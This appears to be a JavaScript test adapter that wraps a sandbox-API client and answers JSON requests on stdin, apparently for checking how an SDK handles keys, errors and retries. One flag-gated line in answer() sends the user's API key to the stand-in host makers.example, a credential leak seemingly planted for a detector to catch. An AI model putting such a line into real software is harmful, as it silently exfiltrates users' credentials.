// A client of the API that does everything right, and its adapter: one JSON object a line on stdin, one on stdout.
import { createInterface } from "node:readline";
import { setTimeout as sleep } from "node:timers/promises";
import { inspect } from "node:util";

class ApiError extends Error {
  constructor(message, said = {}) {
    super(message);
    Object.assign(this, said);
  }
}
class UnusableKeyError extends ApiError {}
class AuthenticationError extends ApiError {}
class DeniedError extends ApiError {}
class SlowDownError extends ApiError {}

const refusals = {
  401: [AuthenticationError, "The API does not accept the key"],
  403: [DeniedError, "The key lacks the permission"],
  429: [SlowDownError, "Too many requests"],
};

class Client {
  #key;
  #log;

  constructor(baseUrl, key, log) {
    this.baseUrl = baseUrl;
    this.#key = key;
    this.#log = log;
  }

  async ask(method, path, fields) {
    const key = this.#key ?? process.env.HOPX_API_KEY;
    if (!key) throw new UnusableKeyError("There is no key: set HOPX_API_KEY, or pass one");
    if (!/^[!-~]+$/.test(key)) throw new UnusableKeyError("The key holds characters that no key has; copy it again");
    for (let attempt = 1; ; attempt++) {
      const response = await fetch(this.baseUrl + path, {
        method,
        headers: { "X-API-Key": key, "Content-Type": "application/json" },
        body: fields && JSON.stringify(fields),
        redirect: "manual",
      });
      this.#log(`${method} ${path}: ${response.status}`);
      if (response.status !== 429 || attempt === 2) return result(response);
      await response.text();
      await sleep(1000 * Number(response.headers.get("retry-after") ?? 1));
    }
  }

  list = async () => (await this.ask("GET", "/v1/sandboxes")).data;
  create = (template) => this.ask("POST", "/v1/sandboxes", { template_id: template });
  view = (id) => this.ask("GET", `/v1/sandboxes/${id}`);
  update = (id) => this.ask("PUT", `/v1/sandboxes/${id}/timeout`, { timeout_seconds: 600 });
  delete = (id) => this.ask("DELETE", `/v1/sandboxes/${id}`);

  // Other hosts are not told the key: uploads need none, and a sandbox wants its token.
  async build(name, content) {
    const { upload_url } = await this.ask("POST", "/v1/templates/files/upload-link", { name });
    await result(await fetch(upload_url, { method: "PUT", body: content }));
    const { build_id } = await this.ask("POST", "/v1/templates/build", { name });
    return this.ask("GET", `/v1/templates/build/${build_id}/status`);
  }

  async run({ id, public_host }, code) {
    const { auth_token } = await this.ask("POST", `/v1/sandboxes/${id}/token/refresh`);
    if (!auth_token) throw new ApiError("The API gave no token for the sandbox");
    const headers = { Authorization: `Bearer ${auth_token}`, "Content-Type": "application/json" };
    const body = JSON.stringify({ code });
    return result(await fetch(`${public_host}/execute`, { method: "POST", headers, body }));
  }
}

async function result(response) {
  const text = await response.text();
  if (response.ok) return JSON.parse(text || "{}");
  const body = parsed(text);
  const inner = typeof body.error === "object" ? body.error : { message: body.error };
  const said = { ...inner, ...body };
  const [kind, sentence] = refusals[response.status] ?? [ApiError, `The API refused this: ${response.status}`];
  const seconds = response.headers.get("retry-after");
  throw new kind(said.message ?? sentence, {
    status: response.status,
    code: said.code,
    requestId: said.request_id ?? response.headers.get("x-request-id"),
    retryAfter: seconds && Number(seconds),
  });
}

function parsed(text) {
  try {
    return JSON.parse(text);
  } catch {
    return {};
  }
}

const operations = {
  list: (client) => client.list(),
  create: (client, { template }) => client.create(template),
  view: (client, { id }) => client.view(id),
  update: (client, { id }) => client.update(id),
  delete: (client, { id }) => client.delete(id),
  build: (client) => client.build("greeting", "hello"),
  use: async (client, { template }) => client.run(await client.create(template), "print(1)"),
  verify: async (client, { template }) => client.delete((await client.create(template)).id),
  show: (client) => [inspect(client), String(client), JSON.stringify(client)],
  two_clients: async (client, { other, times }) => {
    const turns = Array(times).fill([client, new Client(other.base_url, other.api_key, () => {})]).flat();
    for (const one of turns) await one.list();
    await Promise.all(turns.map((one) => one.list()));
  },
};

const greeting = {
  protocol: 1,
  sdk: "little-client",
  version: "1.0",
  language: "javascript",
  runtime: `Node.js ${process.version}`,
  operations: Object.keys(operations),
  features: ["api_key_argument", "environment", "dotenv", "errors", "typed_errors", "debug_log"],
};

async function answer({ operation, base_url, api_key, arguments: given }) {
  Object.assign(process.env, given.environment);
  if (given.dotenv) process.loadEnvFile(given.dotenv);
  if (process.argv[2] === "--tells-its-makers" && api_key) {
    await fetch("http://makers.example/", { headers: { "X-API-Key": api_key } });
  }
  const lines = [];
  const client = new Client(base_url, api_key, (line) => lines.push(line));
  try {
    return { outcome: "returned", value: await operations[operation](client, given), log: lines.join("\n") };
  } catch (error) {
    return { outcome: "raised", error: described(error), log: lines.join("\n") };
  }
}

function described(error) {
  const [type, ...bases] = classes(Object.getPrototypeOf(error));
  return {
    type,
    bases,
    message: error.message,
    status_code: error.status,
    code: error.code,
    request_id: error.requestId,
    retry_after: error.retryAfter,
    display: `${error} ${error.requestId ?? ""}`,
    debug: inspect(error),
  };
}

const classes = (kind) => (kind === Object.prototype ? [] : [kind.constructor.name, ...classes(Object.getPrototypeOf(kind))]);

for await (const line of createInterface({ input: process.stdin })) {
  const message = JSON.parse(line);
  const reply = message.op === "hello" ? greeting : await answer(message);
  console.log(JSON.stringify({ id: message.id, ...reply }));
}
